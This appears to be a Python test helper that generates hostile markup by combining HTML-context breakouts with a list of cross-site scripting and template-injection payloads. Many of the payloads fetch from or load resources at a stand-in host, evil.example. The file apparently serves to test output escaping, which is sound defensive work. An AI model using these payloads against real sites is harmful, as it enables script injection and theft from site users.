"""Texts that try to become script, markup or a request, by combination."""

from itertools import islice, product

HOST = "http://evil.example"
SCRIPT = f"window.broken=1;fetch('{HOST}/s')"
_OPENINGS = (
    "", '"', "'", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</span>",
    '">', "'>", "</p></article></main>", "<!--", "<svg>", "<math><mtext>", "<select>", "<table>",
    "&lt;", "\\u003c", "%3C", "\x00", "\ufeff", "\u2028", "\u202e",
)  # fmt: skip
_PAYLOADS = (
    f"<script>{SCRIPT}</script>",
    f"<script src={HOST}/a.js></script>",
    f"<ScRiPt\n>{SCRIPT}</ScRiPt\t>",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img src={HOST}/i.png srcset='{HOST}/j.png 2x'>",
    f'<svg onload="{SCRIPT}"><image href={HOST}/k.svg /></svg>',
    f"<iframe srcdoc='<script>parent.broken=1</script>' src={HOST}/f></iframe>",
    f'<body onload="{SCRIPT}" background={HOST}/b.png>',
    f"<link rel=stylesheet href={HOST}/l.css><link rel=prefetch href={HOST}/p>",
    f"<style>@import '{HOST}/c.css';*{{background:url({HOST}/u)}}</style>",
    f"<meta http-equiv=refresh content='0;url={HOST}/m'>",
    f"<base href={HOST}/>",
    f"<form action={HOST}><button formaction={HOST}>x</button></form>",
    f"<object data={HOST}/o></object><embed src={HOST}/e>",
    f"<video autoplay poster={HOST}/v.png src={HOST}/v.mp4 onerror=\"{SCRIPT}\"></video>",
    f"<audio autoplay src={HOST}/a.mp3>",
    f'<details open ontoggle="{SCRIPT}">',
    f'" onmouseover="{SCRIPT}" autofocus onfocus="{SCRIPT}" x="',
    f'<a href="javascript:{SCRIPT}" id=listen>听</a>',
    f"<input autofocus onfocus={SCRIPT}>",
    f"<marquee onstart={SCRIPT}>甲</marquee>",
    f"<x style='background:url({HOST}/z)' data-q=0 id=sound src={HOST}/w>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    "{{constructor.constructor('window.broken=1')()}}",
    "${window.broken=1}",
    "%s %d {0} {title} {listen}",
)  # fmt: skip
_CLOSINGS = ("", "<", "&", '"', "</", "<!", "\ud800")


def hostile_markup(count: int) -> list[str]:
    """So many texts, each another one."""
    found = list(islice(map("".join, product(_OPENINGS, _PAYLOADS, _CLOSINGS)), count))
    assert len(set(found)) == count
    return found
